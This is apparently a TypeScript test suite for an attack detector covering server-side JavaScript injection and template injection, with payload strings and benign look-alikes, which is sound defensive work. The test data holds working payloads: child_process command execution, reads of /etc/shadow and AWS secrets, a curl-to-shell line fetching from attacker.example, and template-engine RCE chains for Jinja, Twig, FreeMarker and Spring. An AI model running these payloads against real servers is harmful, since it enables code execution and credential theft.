// Server-side JavaScript injection (js_injection) and server-side template injection (ssti):
// one block per technique class, with the look-alike ordinary input that must stay silent.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createDetector } from '@secotel/detect';
import type { Category, DetectRequest, Finding } from '@secotel/detect';

const level1 = createDetector();
const level2 = createDetector({ level: 2 });

function inQuery(value: string): DetectRequest {
  return { method: 'GET', path: '/search', query: { q: value }, headers: {}, cookies: {} };
}

function ours(findings: Finding[]): string[] {
  return findings.filter((f) => f.rule.category === 'js_injection' || f.rule.category === 'ssti')
    .map((f) => `${f.rule.id} ${f.fragment}`);
}

function assertRule(id: string, values: readonly string[], wrap: (v: string) => DetectRequest = inQuery): void {
  const detector = id === 'js-008' || id === 'ssti-004' ? level2 : level1;
  for (const value of values) {
    const findings = detector.detect(wrap(value));
    assert.ok(findings.some((f) => f.rule.id === id), `expected ${id} in ${JSON.stringify(value)}, got ${JSON.stringify(ours(findings))}`);
  }
}

function assertCategory(category: Category, values: readonly string[], wrap: (v: string) => DetectRequest = inQuery): void {
  for (const value of values) {
    const findings = level1.detect(wrap(value));
    assert.ok(findings.some((f) => f.rule.category === category), `expected ${category} in ${JSON.stringify(value)}`);
  }
}

/** Silent at level 1 for both categories (level-2 findings are allowed). */
function assertQuiet(values: readonly string[], wrap: (v: string) => DetectRequest = inQuery): void {
  for (const value of values) {
    assert.deepEqual(ours(level1.detect(wrap(value))), [], `unexpected finding in ${JSON.stringify(value)}`);
  }
}

/** Silent at every level. */
function assertSilent(values: readonly string[]): void {
  const level3 = createDetector({ level: 3 });
  for (const value of values) {
    assert.deepEqual(ours(level3.detect(inQuery(value))), [], `unexpected finding in ${JSON.stringify(value)}`);
  }
}

describe('js_injection', () => {
  it('finds dangerous core modules loaded from code', () => {
    assertRule('js-001', [
      "require('child_process').spawnSync('uname', ['-a'])", 'require ( "fs" ).readdirSync("/")', 'x=require(`node:vm`)',
      "res.end(require('fs').readFileSync('/etc/shadow'))", "import('child_process').then(function (m) { m.exec('id') })",
      "module._load('worker_threads')", "var cp = 'child_process'; require(cp); cp2.execSync('uname -a')",
      'require.main.require("net").connect(4444, "10.0.0.1")', "fs.writeFileSync('/tmp/x.js', 'pwn')",
      "child_process.exec('curl http://attacker.example/x | sh')", "lib('child_process').execSync('id')",
      'require.cache[require.resolve("./auth")] = null', 'require.extensions', ';module.exports = function () { return 1 }',
    ]);
  });

  it('finds code reaching the process object', () => {
    assertRule('js-002', [
      'process.mainModule.constructor', "process['mainModule']", "globalThis.process.binding('spawn_sync')",
      '1;process.kill(process.ppid)', "';process.exit(0)//", 'process.env', 'JSON.stringify(process.env)',
      "process['env']['AWS_SECRET_ACCESS_KEY']", 'process[req.body.key]', 'global.process',
      'global["process"]["mainModule"]', "this['process'].env", 'root.process.mainModule', 'process.cwd()', ';process.argv',
      'process.constructor',
    ]);
  });

  it('finds the Function constructor reached from any object', () => {
    assertRule('js-003', [
      'this.constructor.constructor("return process")()', "[]['constructor']['constructor']('return this')()",
      '"".sub.constructor("return global.process")()', "Function('return this')().process",
      "new Function ('return this.process')()", 'new Function (',
    ]);
  });

  it('finds code evaluated from strings and decoders', () => {
    assertRule('js-004', [
      "eval('process.exit()')", 'eval(String.fromCharCode(112,114,111))', "eval(atob('cHJvY2Vzcy5leGl0KCk='))",
      "eval(Buffer.from('cHJvY2Vzcy5leGl0KCk=', 'base64').toString())", 'setTimeout("while(1){}", 10)',
      "setInterval('fetch(`//x.example/`+document.cookie)')", 'setTimeout(String.fromCharCode(97,108,101))', "(0, eval)('process.exit()')", 'globalThis.eval("1")', "vm.runInNewContext('1+1', {})", '1;vm.runInThisContext(code)',
    ]);
  });

  it('finds serialized functions and React Flight gadget references', () => {
    assertRule('js-005', [
      '{"rce":"_$$ND_FUNC$$_function(){return 1}()"}',
      '{"then":"$1:__proto__:then","status":"resolved_model"}', '{"get":"$4:constructor:constructor"}',
      '["$3:Module:prototype:_compile"]', '{"__js_function":"function(){return process.pid}"}',
    ]);
  });

  it('finds infinite loops that hang the event loop', () => {
    assertRule('js-006', [
      'while(1);', 'while (!0) {}', 'while(!"x");', 'for(;;);', 'while(!false)', 'while (new Date) ;', 'do{}while(1)',
      'x=1;while(true)',
    ]);
  });

  it('finds code spelled in JavaScript escapes or inside escaped Base64', () => {
    assertRule('js-007', [
      "\\u0072\\u0065quire('fs')", '\\x65val("1")', 'c\\u006fnsole.log(document.domain)',
      // \u-escaped Base64 of require("child_process").exec("id")
      '\\u0063mVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIik=',
    ]);
  });

  it('finds plain Base64 payloads in cookies through the engine decoding them', () => {
    const cookie = Buffer.from('{"u":"_$$ND_FUNC$$_function(){return 1}()"}').toString('base64');
    assertCategory('js_injection', [cookie], (v) => ({ method: 'GET', path: '/', headers: {}, cookies: { profile: v } }));
  });

  it('finds code in JSON strings, unparsed JSON text and other parts', () => {
    assertCategory('js_injection', ["require('child_process').exec('id')"], (v) => ({ method: 'POST', path: '/api', body: { name: v } }));
    assertCategory('js_injection', ['{"code":"require(\\"child_process\\").exec(\\"id\\")"}']);
    assertCategory('js_injection', ["process.mainModule.require('fs')"], (v) => ({ method: 'GET', path: '/', headers: { 'x-debug': v } }));
  });

  it('reports code shapes that are also how people write about JavaScript on level 2 only', () => {
    assertRule('js-008', [
      'console.info(1)', 'function() {', 'how to read process.env in node', 'process.env.NODE_ENV not working',
      'while(true)', "the Function('a', 'b') constructor", '(function(w,d){})(window,document)', 'the process.main loop',
      'require.cache explained', 'module.exports = { handler }', 'this.constructor', 'What does process.cwd() return?',
      '```js\nconst cp = require("child_process");\ncp.exec("ls");\n```',
    ]);
    assertQuiet(['console.info(1)', 'function() {', 'how to read process.env in node', 'while(true)',
      '```js\nconst cp = require("child_process");\ncp.exec("ls");\n```']);
  });

  it('stays silent on prose, stack traces and ordinary code mentions', () => {
    assertSilent([
      'the process exited with code 1', 'require a constructor for the class', 'We require (in writing) "fs" forms',
      'a new function (see docs)', 'eval() is evil', 'the eval (evaluation) form', 'child_process.exec() vs spawn()',
      'at process.processTicksAndRejections (node:internal/process/task_queues:95:5)',
      'at ChildProcess.exec (node:child_process:422:12)', 'at Module._load (node:internal/modules/cjs/loader:1019:12)',
      'process.exit (node:internal/process/per_thread:185:20)', "Error: Cannot find module 'fs-extra'",
      'require.js vs webpack', "const x = require('lodash')", "import('./page.js')", 'constructor salary',
      '{"function":"search","constructor":"Acme Corp"}', 'This process[1] is done', 'global.fetch is undefined',
      'C:\\Users\\jane\\AppData\\Local\\Temp\\process.exe', 'price $5:constructor grade', 'Call setTimeout(fn, 0) to defer',
      'for (;;) vs while', 'Why is eval() considered harmful?', 'Learn fs.readFileSync(path)', 'process.maintenance window',
      'our process, globally', 'module.exports is an object', 'maintenance process. global warming',
    ]);
    assertQuiet([
      'Tip: process.env holds config', '**process.exit(1)** ends it', '- process.env.PORT sets the port',
      'the environment (process.env) holds secrets', 'First, process.exit(1) stops node', '| process.argv | arguments |',
    ]);
    assertQuiet(['See `process.exit(1)` docs', 'while (true) loop in java', 'vm.runInNewContext docs']);
  });
});

describe('ssti', () => {
  it('finds arithmetic probes in every template syntax', () => {
    assertRule('ssti-001', [
      '{{7*7}}', '{{ 7 * 7 }}', "{{7*'7'}}", '${7*7}', '${{7*7}}', '#{7*7}', '*{7*7}', '@(7*7)', '[[${7*7}]]',
      '<%= 7*7 %>', '<%=7*7%>', '{{= 1337*1337 }}', '${1000+337}', '#{3-1}', 'name={{191*7}}&x=1', '[[5*5]]',
      '~{7*7}', '%{7*7}', '$!{7*7}', '[=7*7]', '${{<%[%\'"}}%\\.',
    ]);
  });

  it('finds expressions walking objects or calling dangerous functions', () => {
    assertRule('ssti-002', [
      "{{constructor.constructor('return process')()}}", '{{range.constructor("return global.process")()}}',
      "{{''.__class__.__mro__[1].__subclasses__()}}", '{{config.items()}}', "{{ config['SECRET_KEY'] }}",
      '{{self._TemplateReference__context.cycler.__init__.__globals__.os}}', "{{lipsum.__globals__['os'].popen('id').read()}}",
      "<%= global.process.mainModule.require('child_process').execSync('id') %>", '#{`id`}', "#{runtime.exec('id')}",
      "${T(java.lang.Runtime).getRuntime().exec('id')}", "*{T(java.lang.System).getenv()}",
      "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "{{app.request.query.filter(0,0,1024,{'options':'system'})}}",
      "{% raw __import__('os').popen('id').read() %}",
      "{{_self.env.registerUndefinedFilterCallback('exec')}}", "{{['id']|filter('system')}}",
      '@{System.Diagnostics.Process.Start("cmd.exe")}', "{{request|attr('application')}}", '<%= `ls /` %>',
      "<%= File.open('/etc/passwd').read %>", '{{dump(app)}}', '@System.Diagnostics.Process.Start("cmd.exe")',
      '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")', "${self.module.cache.util.os.system('id')}",
    ]);
  });

  it('finds engine directives that run code or import modules', () => {
    assertRule('ssti-003', [
      "{% import os %}{{ os.popen('id').read() }}", '{% from subprocess import check_output %}', '{% if True %}49{% endif %}',
      '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', '#set($rt = $x.class.forName("java.lang.Runtime"))',
      '{{#with "s" as |string|}}{{#with "e"}}{{/with}}{{/with}}', '{php}echo `id`;{/php}', '{% debug %}',
      "{system('id')}", '{$smarty.version}', '{% if 7*7 == 49 %}ok{% endif %}', '{% print 7*7 %}', '{% set x = 7*7 %}',
      '@php system("id"); @endphp', '<%! import os %>', '<% import os %>',
    ]);
  });

  it('finds template syntax decoded from HTML character references', () => {
    assertRule('ssti-001', ['&#x7b;&#x7b;7*7&#x7d;&#x7d;', '&lcub;&lcub;7*7&rcub;&rcub;']);
  });

  it('reports lower-confidence probes on level 2 only', () => {
    assertRule('ssti-004', ['{{ 1 + 1 }}', '{{config}}', '{{self}}', '#set($name = "World")']);
    assertQuiet(['{{ 1 + 1 }}', '{{config}}', '#set($name = "World")Hello $name']);
  });

  it('stays silent on templates shown as text and braces in ordinary values', () => {
    assertSilent([
      '{{ user.name }}', 'vue {{ message }}', '${price}', 'Total: ${total}', '${HOME} in bash', 'Price $5 * 3 items',
      '{{ __("Save") }}', '{{#with person as |p|}}{{p.name}}{{/with}}', '{% if user %}hi{% endif %}', 'Hello #{name}!',
      'email me @(work)', '<%= user.name %>', '[[${user.name}]]', '*{firstName}', 'range 1-5 {1-5}', '{{ price * quantity }}',
      'rate is {{ 5 }} stars', 'a (7*7) b', '{{ .Values.image.repository }}:{{ .Values.image.tag }}',
      '{{- include "chart.labels" . | nindent 4 }}', '${{ secrets.GITHUB_TOKEN }}', "{% import 'macros.html' as forms %}",
      "{% from 'forms.html' import input %}", '{% extends "base.html" %}', '{{#each items}}<li>{{this}}</li>{{/each}}',
      'Hi {{ customer.first_name | capitalize }}', '<#if user??>Welcome ${user}</#if>', '${spring.datasource.url}',
      '${var.region}-${path.module}', '<%= link_to "Home", root_path %>', '@(Model.Title)', 'I scored {7*7} points',
      'Dear {{name}}, your order {{order_id}} ships {{date}}', '{"a":{"b":[1,2,{"c":3}]}}', '<%# comment %>',
      '[[Main Page]]', '[[File:x.png|thumb]]', '{% if user.admin %}', '{% set title = "Home" %}', '{% print name %}',
      '50%{discount}', 'Costs ~{5 bucks}', '[=link]', '@php is fun', 'Email bob@php.net', '{% if page.title == "Home" %}',
      '<% import "x" %>', 'price $!{amount}', '{{ "system" }}', 'Price: $5 (incl. tax)', 'a [b] * c', 'Contact @support.team', '$(".btn").click()',
    ]);
  });
});

describe('js_injection and ssti cost', () => {
  it('handles long adversarial values within the scan bounds', () => {
    const detector = createDetector({ maxInputLength: 65536, categories: ['js_injection', 'ssti'] });
    for (const seed of ['require(', '{{', '${', '<%', '{%', 'process.', 'constructor.', 'while(', '$1:__proto__', '\\u0072', '@(']) {
      const value = seed.repeat(Math.ceil(65536 / seed.length)).slice(0, 65536);
      assert.ok(Array.isArray(detector.detect({ query: { q: value }, body: value })));
    }
  });
});
